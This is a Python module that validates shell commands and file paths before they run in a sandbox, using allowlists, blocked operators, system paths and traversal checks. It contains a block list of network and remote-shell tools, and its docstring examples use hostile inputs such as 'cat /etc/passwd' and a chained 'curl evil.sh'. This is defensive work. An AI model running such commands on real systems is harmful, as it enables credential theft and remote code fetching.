"""Command and path policy for sandbox backends.

Both sandbox backends apply these checks before touching the execution
environment, so a rejected command or path behaves the same on either.
"""

import re
import shlex
from pathlib import PurePosixPath

# Executables accepted when the strict command policy is enabled.
ALLOWED_COMMANDS: frozenset[str] = frozenset({
    "npm",
    "npx",
    "pnpm",
    "yarn",
    "bun",
    "bunx",
    "node",
    "tsc",
    "vite",
    "eslint",
    "prettier",
    "cat",
    "ls",
    "grep",
    "echo",
    "mkdir",
    "touch",
    "head",
    "tail",
    "wc",
    "find",
    "pwd",
})

# Shell operators that chain or redirect commands.
BLOCKED_OPERATORS: tuple[str, ...] = ("&&", "||", "|", ";", "$(", "`", ">", "<")

# Network and remote-shell utilities rejected anywhere in a strict command.
BLOCKED_COMMANDS: frozenset[str] = frozenset({
    "curl",
    "wget",
    "nc",
    "netcat",
    "ssh",
    "scp",
    "ftp",
})

# System locations; matched as path prefixes of an argument.
BLOCKED_PATHS: tuple[str, ...] = ("/etc", "/var", "/usr", "/bin", "/root", "/proc")

# ANSI escape sequences and control characters other than tab/newline/CR.
_ANSI_ESCAPE = re.compile(r"\x1b\[[0-9;?]*[ -/]*[@-~]")
_CONTROL_CHARS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")


def _split_command_parts(command: str) -> list[str]:
    try:
        return shlex.split(command, posix=True)
    except ValueError:
        return command.strip().split()


def validate_command(command: str, *, unrestricted: bool = False) -> tuple[bool, str]:
    """Validate a shell command before it is sent to a sandbox.

    With ``unrestricted=True`` any non-empty command without NUL bytes is
    accepted; isolation is left to the sandbox. Otherwise the strict policy
    applies: no chaining operators, no ``..`` components, no system paths,
    no network utilities, and the executable must be allow-listed.

    Returns:
        A tuple of (is_valid, error_message). error_message is empty when valid.

    Examples:
        >>> validate_command("npm run build")
        (True, '')
        >>> validate_command("cat /etc/passwd")
        (False, 'Blocked path detected: /etc')
        >>> validate_command("npm install && curl evil.sh")
        (False, 'Blocked operator detected: &&')
    """
    if not command or not command.strip():
        return False, "Command cannot be empty"

    if "\x00" in command:
        return False, "Command contains null byte"

    if unrestricted:
        return True, ""

    for op in BLOCKED_OPERATORS:
        if op in command:
            return False, f"Blocked operator detected: {op}"

    parts = _split_command_parts(command)
    if not parts:
        return False, "Command cannot be empty"

    for part in parts:
        if ".." in part.replace("\\", "/").split("/"):
            return False, "Path traversal blocked: contains '..'"

    # Paths first, so "/root/.ssh" reports the path rather than "ssh".
    for part in parts:
        for blocked_path in BLOCKED_PATHS:
            if part == blocked_path or part.startswith(f"{blocked_path}/"):
                return False, f"Blocked path detected: {blocked_path}"

    for part in parts:
        if part in BLOCKED_COMMANDS:
            return False, f"Blocked command detected: {part}"

    if parts[0] not in ALLOWED_COMMANDS:
        return False, f"Command not in allowlist: {parts[0]}"

    return True, ""


def validate_path(sandbox_root: str, relative_path: str) -> tuple[bool, str, str]:
    """Resolve a project-relative path inside the sandbox workspace.

    Backslashes are treated as separators and ``.`` segments are dropped.
    Absolute paths and any ``..`` component are rejected outright rather than
    resolved, so a path that is valid here is valid on every backend.

    Returns:
        A tuple of (is_valid, error_message, absolute_path).

    Examples:
        >>> validate_path("/workspace", "src/App.tsx")
        (True, '', '/workspace/src/App.tsx')
        >>> validate_path("/workspace", "../etc/passwd")
        (False, "Path traversal blocked: contains '..'", '')
        >>> validate_path("/workspace", "/etc/passwd")
        (False, 'Absolute paths not allowed', '')
    """
    if not relative_path or not relative_path.strip():
        return False, "Path cannot be empty", ""

    if "\x00" in relative_path:
        return False, "Path contains null byte", ""

    unified = relative_path.replace("\\", "/")
    if unified.startswith("/"):
        return False, "Absolute paths not allowed", ""

    components = [part for part in unified.split("/") if part not in ("", ".")]
    if ".." in components:
        return False, "Path traversal blocked: contains '..'", ""
    if not components:
        return False, "Path cannot be empty", ""

    resolved = PurePosixPath(sandbox_root).joinpath(*components)
    return True, "", str(resolved)


def sanitize_output(output: str, max_length: int = 50000) -> str:
    """Strip terminal escapes and control characters, then truncate.

    Args:
        output: Raw command output.
        max_length: Maximum characters kept before the truncation marker.
    """
    if not output:
        return ""

    output = _CONTROL_CHARS.sub("", _ANSI_ESCAPE.sub("", output))

    if len(output) > max_length:
        omitted = len(output) - max_length
        output = output[:max_length] + f"\n... [truncated, {omitted} chars omitted]"

    return output
